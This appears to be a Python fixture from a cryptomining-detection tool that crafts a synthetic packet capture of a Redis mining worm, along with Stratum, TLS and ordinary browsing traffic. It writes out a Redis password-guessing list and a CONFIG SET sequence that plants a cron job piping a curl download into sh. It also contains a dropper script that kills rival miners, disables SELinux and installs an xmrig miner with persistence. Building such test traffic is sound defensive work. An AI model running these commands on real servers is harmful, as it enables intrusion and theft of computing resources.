"""A small demonstration capture, made by the project's own packet crafting (nothing recorded, no network).

The story, as a Redis mining worm tells it: 203.0.113.50 guesses the Redis password of host 10.1.1.20,
then uses Redis to write a cron job; the cron job downloads a dropper script and an xmrig build from
203.0.113.66; 10.1.1.20 then mines Monero through a CryptoNote pool. Host 10.1.1.21 mines with a
Stratum v1 miner; meanwhile host 10.1.1.22 holds an encrypted (TLS) connection to the same pool's address
on port 443, which only the pool's confirmation by 10.1.1.21 can expose; host 10.1.1.30 only browses and
resolves names. Addresses are from the documentation
ranges (RFC 5737); the pool name is a real pool domain, so the shipped threat intelligence knows it.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path

from minerwatch.capture.writer import PcapWriter, TcpConversation, dns_exchange

START = 1_764_000_000.0  # 2025-11-24T16:00:00Z
VICTIM, STRATUM_MINER, TLS_PEER, BYSTANDER = "10.1.1.20", "10.1.1.21", "10.1.1.22", "10.1.1.30"
XMR_POOL, BTC_POOL, WEB = "198.51.100.7", "198.51.100.9", "203.0.113.80"
ATTACKER, DROP_SITE = "203.0.113.50", "203.0.113.66"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
AGENT = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0"


def _line(obj: dict) -> bytes:
    return json.dumps(obj, separators=(",", ":")).encode() + b"\n"


def _resp(*words: bytes) -> bytes:
    """A Redis command in RESP, as redis-cli and worms send it."""
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)


def _redis_break_in() -> list[TcpConversation]:
    """Twelve wrong passwords, the right one, then CONFIG SET to plant a cron job that fetches the dropper."""
    conversations = []
    for i, guess in enumerate(
        [
            b"123456",
            b"redis",
            b"admin",
            b"password",
            b"root",
            b"foobared",
            b"qwerty",
            b"redis123",
            b"test",
            b"12345678",
            b"default",
            b"changeme",
            b"Passw0rd",
        ]
    ):
        c = TcpConversation(ATTACKER, 51000 + i, VICTIM, 6379, ts=START + 2 + i * 1.5).open()
        c.send(True, _resp(b"AUTH", guess))
        right = guess == b"Passw0rd"
        c.send(False, b"+OK\r\n" if right else b"-WRONGPASS invalid username-password pair\r\n")
        if right:
            cron = b"\n\n*/5 * * * * curl -fsSL http://%s/init.sh | sh\n\n" % DROP_SITE.encode()
            for command in (
                _resp(b"CONFIG", b"SET", b"dir", b"/var/spool/cron/"),
                _resp(b"CONFIG", b"SET", b"dbfilename", b"root"),
                _resp(b"SET", b"backup1", cron),
                _resp(b"SAVE"),
            ):
                c.send(True, command).send(False, b"+OK\r\n")
        conversations.append(c.close())
    return conversations


DROPPER = b"""#!/bin/sh
pkill -f kdevtmpfsi; pkill -f kinsing; netstat -anp | grep :3333 | awk '{print $7}' | xargs kill -9
setenforce 0; chattr -i /etc/crontab
curl -fsSL http://%s/xmrig -o /tmp/.x/xmrig && chmod +x /tmp/.x/xmrig
(crontab -l; echo "*/10 * * * * /tmp/.x/xmrig") | crontab -
/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u %s --donate-level 1 -B
""" % (DROP_SITE.encode(), WALLET.encode())

MINER_BINARY = (
    b"\x7fELF\x02\x01\x01\x00"
    + bytes(8)
    + b"\x02\x00\x3e\x00"
    + bytes(44)
    + b"XMRig 6.21.0\x00 built on Nov 1 2025 with GCC\x00donate-level\x00randomx\x00cryptonight\x00"
    + b'{"pools":[{"url":"pool.supportxmr.com:3333","user":"%s","pass":"x"}]}' % WALLET.encode()
    + bytes(4096)
)


def _download(path: bytes, body: bytes, ts: float, port: int) -> TcpConversation:
    c = TcpConversation(VICTIM, port, DROP_SITE, 80, ts=ts).open()
    c.send(
        True, b"GET /%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/7.88.1\r\n\r\n" % (path, DROP_SITE.encode())
    )
    c.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    return c.close()


def _xmrig_session(rng: random.Random, wallet: str = WALLET, agent: str = AGENT) -> TcpConversation:
    """A CryptoNote pool session; tests pass other wallet (login) and agent strings."""
    c = TcpConversation(VICTIM, 43120, XMR_POOL, 3333, ts=START + 120).open()
    login = {
        "id": 1,
        "jsonrpc": "2.0",
        "method": "login",
        "params": {
            "login": wallet,
            "pass": "x",
            "agent": agent,
            "algo": ["rx/0", "cn/r", "cn/half"],
            "rigid": "",
        },
    }
    c.send(True, _line(login))
    job = {
        "blob": "0e0e" + "ab" * 74,
        "job_id": "1001",
        "target": "b88d0600",
        "algo": "rx/0",
        "height": 3100000,
        "seed_hash": "cd" * 32,
    }
    c.send(
        False,
        _line(
            {
                "id": 1,
                "jsonrpc": "2.0",
                "error": None,
                "result": {"id": "sess-7f3a", "job": job, "status": "OK"},
            }
        ),
    )
    for n in range(12):
        if n == 6:  # the pool raises the difficulty
            job = {**job, "job_id": "1002", "target": "dcba0300", "height": 3100001}
            c.send(False, _line({"jsonrpc": "2.0", "method": "job", "params": job}), dt=rng.uniform(5, 20))
        submit = {
            "id": 2 + n,
            "jsonrpc": "2.0",
            "method": "submit",
            "params": {
                "id": "sess-7f3a",
                "job_id": job["job_id"],
                "nonce": f"{rng.getrandbits(32):08x}",
                "result": f"{rng.getrandbits(256):064x}",
            },
        }
        c.send(True, _line(submit), dt=rng.uniform(10, 30))
        c.send(
            False, _line({"id": 2 + n, "jsonrpc": "2.0", "error": None, "result": {"status": "OK"}}), dt=0.08
        )
    c.send(True, _line({"id": 20, "jsonrpc": "2.0", "method": "keepalived", "params": {"id": "sess-7f3a"}}))
    return c.close()


def _stratum_session(rng: random.Random) -> TcpConversation:
    c = TcpConversation(STRATUM_MINER, 50311, BTC_POOL, 3333, ts=START + 200).open()
    c.send(True, _line({"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.11.1"]}))
    c.send(
        False,
        _line(
            {
                "id": 1,
                "result": [[["mining.notify", "ae6812eb4cd7735a302a8a9dd95cf71f"]], "08000002", 4],
                "error": None,
            }
        ),
    )
    c.send(True, _line({"id": 2, "method": "mining.authorize", "params": ["bc1qworker.rig1", "x"]}))
    c.send(False, _line({"id": 2, "result": True, "error": None}))
    c.send(False, _line({"id": None, "method": "mining.set_difficulty", "params": [8192]}))
    notify = [
        "bf",
        "4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000",
        "01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20020862062f503253482f04b8864e5008",
        "072f736c7573682f000000000100f2052a010000001976a914d23fcdf86f7e756a64a7a9688ef9903327048ed988ac00000000",
        [],
        "00000002",
        "1c2ac4af",
        "504e86b9",
        True,
    ]
    c.send(False, _line({"id": None, "method": "mining.notify", "params": notify}))
    for n in range(8):
        share = ["bc1qworker.rig1", "bf", f"{n:08x}", "504e86ed", f"{rng.getrandbits(32):08x}"]
        c.send(True, _line({"id": 4 + n, "method": "mining.submit", "params": share}), dt=rng.uniform(15, 40))
        accepted = n != 5
        c.send(
            False,
            _line(
                {
                    "id": 4 + n,
                    "result": accepted,
                    "error": None if accepted else [23, "Low difficulty share", None],
                }
            ),
            dt=0.05,
        )
    return c.close()


def _tls_peer(rng: random.Random) -> TcpConversation:
    """Stratum over TLS to the pool's TLS port: a handshake, then small encrypted records both ways."""
    c = TcpConversation(TLS_PEER, 50400, BTC_POOL, 443, ts=START + 230).open()
    c.send(True, b"\x16\x03\x01\x00\xc0" + rng.randbytes(192))
    c.send(False, b"\x16\x03\x03\x04\x00" + rng.randbytes(1024))
    for _ in range(8):
        c.send(False, b"\x17\x03\x03\x01\x00" + rng.randbytes(256), dt=rng.uniform(15, 40))
        c.send(True, b"\x17\x03\x03\x00\xa0" + rng.randbytes(160), dt=rng.uniform(1, 5))
    return c.close()


def _browsing(rng: random.Random) -> Iterator[TcpConversation]:
    for i in range(6):
        c = TcpConversation(BYSTANDER, 40000 + i, WEB, 80, ts=START + 30 * i).open()
        c.send(True, b"GET /news/%d HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n" % i)
        body = bytes(rng.getrandbits(8) for _ in range(6000))
        c.send(False, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 6000\r\n\r\n" + body)
        yield c.close()


def write_sample(path: Path, seed: int = 7) -> int:
    """Write the demonstration capture; returns the number of packets."""
    packets = sample_packets(seed)
    with path.open("wb") as out:
        PcapWriter(out).write_all(packets)
    return len(packets)


def sample_packets(seed: int = 7) -> list[tuple[float, bytes]]:
    """The demonstration capture's (timestamp, Ethernet frame) pairs, in time order."""
    rng = random.Random(seed)
    packets: list[tuple[float, bytes]] = []
    packets += dns_exchange(VICTIM, "192.0.2.53", "pool.supportxmr.com", XMR_POOL, START + 119, 1)
    packets += dns_exchange(BYSTANDER, "192.0.2.53", "www.example.com", WEB, START + 1, 2)
    downloads = (
        _download(b"init.sh", DROPPER, START + 60, 44000),
        _download(b"xmrig", MINER_BINARY, START + 70, 44001),
    )
    for conversation in (
        *_redis_break_in(),
        *downloads,
        _xmrig_session(rng),
        _stratum_session(rng),
        _tls_peer(rng),
        *_browsing(rng),
    ):
        packets += conversation.packets
    packets.sort(key=lambda p: p[0])
    return packets
